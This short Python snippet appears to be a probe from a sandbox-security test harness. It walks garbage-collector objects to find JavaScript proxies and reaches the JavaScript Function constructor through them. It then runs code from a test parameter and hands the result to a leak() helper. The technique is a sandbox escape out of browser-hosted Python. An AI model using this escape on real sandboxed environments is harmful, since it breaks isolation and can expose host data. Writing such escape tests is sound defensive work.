import gc

dictionaries = [each for each in gc.get_objects() if type(each) is dict]
proxies = [value for each in dictionaries for value in list(each.values()) if type(value).__name__ == "JsProxy"]
witness()
for each in proxies:
    if hasattr(each, "constructor"):
        leak(each.constructor.constructor(trial["readRealm"])())
        break
